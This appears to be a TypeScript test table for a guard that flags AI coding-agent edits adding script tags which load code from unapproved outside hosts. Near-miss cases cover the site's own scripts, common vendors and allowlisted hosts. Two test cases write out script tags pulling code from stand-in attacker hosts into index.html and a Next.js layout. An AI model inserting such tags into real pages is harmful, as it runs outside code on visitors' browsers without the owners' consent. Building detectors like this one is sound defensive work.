// A script tag added to a page or template that loads code from a host that is neither the
// organisation's own nor a well-known CDN or vendor asks; the site's own scripts, the usual CDNs and
// vendors, and tags that were there before the edit pass.
import { policyTable } from './table';
import { aWrite, anEdit } from './harness';

policyTable('page-loads-outside-script', [
  {
    note: "Cursor's edit_file adds an outside analytics script to index.html",
    spec: {
      tool: 'edit_file',
      input: {
        target_file: '/home/dev/project/index.html',
        code_edit:
          '<!-- ... existing code ... -->\n  <head>\n    <script src="https://cdn.evil.example/analytics.js"></script>\n<!-- ... existing code ... -->\n',
      },
    },
    expect: 'ask',
  },
  {
    note: "Next.js's Script component in the root layout, protocol-relative",
    spec: anEdit(
      '/home/dev/project/app/layout.tsx',
      '<body className={inter.className}>{children}</body>',
      '<body className={inter.className}>{children}<Script src="//stats.attacker.example/t.js" strategy="afterInteractive" /></body>',
    ),
    expect: 'ask',
  },
  {
    note: 'near miss: the site own module and the usual vendors',
    spec: aWrite(
      '/home/dev/project/index.html',
      '<html><head><script type="module" src="/src/main.tsx"></script>\n<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>\n<script src="https://js.stripe.com/v3"></script>\n<script src="https://cdn.jsdelivr.net/npm/chart.js@4.4.1"></script></head></html>\n',
    ),
    expect: null,
  },
  {
    note: "near miss: the organisation's own internal host",
    spec: aWrite(
      '/home/dev/project/public/status.html',
      '<script src="https://static.acme.internal/widget.js"></script>\n',
    ),
    expect: null,
  },
  {
    note: 'near miss: an edit beside a tag that was there already',
    spec: anEdit(
      '/home/dev/project/index.html',
      '<script src="https://cdn.partner.example/embed.js"></script>\n<title>Old</title>',
      '<script src="https://cdn.partner.example/embed.js"></script>\n<title>New</title>',
    ),
    expect: null,
  },
  {
    note: 'near miss: the same tag in a Markdown document about it',
    spec: aWrite(
      '/home/dev/project/docs/embedding.md',
      '<script src="https://cdn.partner.example/embed.js"></script>\n',
    ),
    expect: null,
  },
  {
    note: 'a host the team allows',
    spec: aWrite('/home/dev/project/index.html', '<script src="https://cdn.partner.example/embed.js"></script>\n'),
    params: { allowHosts: ['partner.example'] },
    expect: null,
  },
]);
